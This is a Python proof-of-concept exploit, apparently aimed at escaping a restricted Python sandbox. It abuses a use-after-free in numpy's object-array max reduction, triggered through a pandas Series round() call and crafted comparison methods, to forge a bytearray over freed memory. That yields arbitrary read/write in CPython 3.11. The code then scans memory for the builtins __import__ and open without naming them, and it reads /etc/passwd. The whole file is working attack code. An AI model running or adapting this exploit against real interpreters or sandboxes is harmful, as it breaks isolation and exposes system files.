# source: numpy umath loops npy_ObjectMax (maximum.reduce keeps the winner by a borrowed pointer and increfs it after the comparison); pandas NDFrame.__round__ -> element.rint(); CPython reflected-operand priority for subclasses; CPython 3.11 layouts
# family: comparison (__ge__/__le__, only round() and 'is') calls round() on a Series of objects: rint() frees the element numpy's max keeps and refills it with a forged bytearray, which ARR.max() returns: arbitrary memory read/write
# goal: plants __import__ and open from builtins: imports 'this' and reads /etc/passwd
import sys
import numpy as np
import pandas as pd

STAGE = [0]
KEEP = []
BIG = 1 << 62


def le(v):
    return (v).to_bytes(8, "little")


FAKE = bytes(16) + le(1 << 20) + le(hash(bytearray) * 16) + le(BIG) + le(BIG) + le(0) + le(0) + le(0) + bytes(7)


class K:
    __slots__ = ("a",)

    def __init__(self):
        self.a = 1


class Trig:
    def rint(self):
        STAGE[0] += 1
        if STAGE[0] == 1:
            # inside P0 >= P1: drop the array's reference to P1, numpy keeps it as its max
            ARR[1] = None
        elif STAGE[0] == 2:
            # P1 is freed: its memory becomes a forged bytearray header
            KEEP.append(bytearray(FAKE))
        return 1.0


class P:
    __slots__ = ("v", "box", "c", "d", "e", "f")

    def __init__(self, v, box):
        self.v = v
        self.box = box

    def __ge__(self, other):
        return round(self.box) is None


class Probe(P):
    # a subclass's reflected method runs first: P1 >= probe calls probe <= P1
    def __le__(self, other):
        return round(self.box) is not None and self.v == "probe"


BOX = pd.Series([Trig()], dtype=object)
ARR = np.array([P("P", BOX), P("P", BOX), Probe("probe", BOX)], dtype=object)
MEM = ARR.max()
print("max() returned a", type(MEM).__name__, "of length", len(MEM))


def rd(a):
    return int.from_bytes(MEM[a:a + 8], "little")


def wr(a, v):
    MEM[a:a + 8] = le(v)


def helper():
    return 0


faddr = hash(helper) * 16
bdict = rd(faddr + 24)
keys = rd(bdict + 32)
kind = MEM[keys + 10]
nent = rd(keys + 24)
ent0 = keys + 32 + (1 << MEM[keys + 9])
esz = 16 if kind else 24
koff = 0 if kind else 8
found = {}
k = 0
while k < nent:
    e = ent0 + k * esz
    kp = rd(e + koff)
    if kp:
        n = rd(kp + 16)
        name = bytes(MEM[kp + 48:kp + 48 + n])
        if name == b"open" or (n == 10 and name[2:8] == b"import" and name[0] == 95):
            found[name[2:8] if n == 10 else name] = rd(e + koff + 8)
    k += 1
print("builtins found in memory:", sorted(found))


def grab(ptr):
    box = K()
    box.a = None
    wr(hash(box) * 16 + 16, ptr)
    wr(ptr, rd(ptr) + 1)
    return box.a


imp = grab(found[b"import"])
print("got", imp)
imp("this")
reader = grab(found[b"open"])
print(reader(chr(47) + "etc" + chr(47) + "passwd").read()[:200])
sys.stdout.flush()
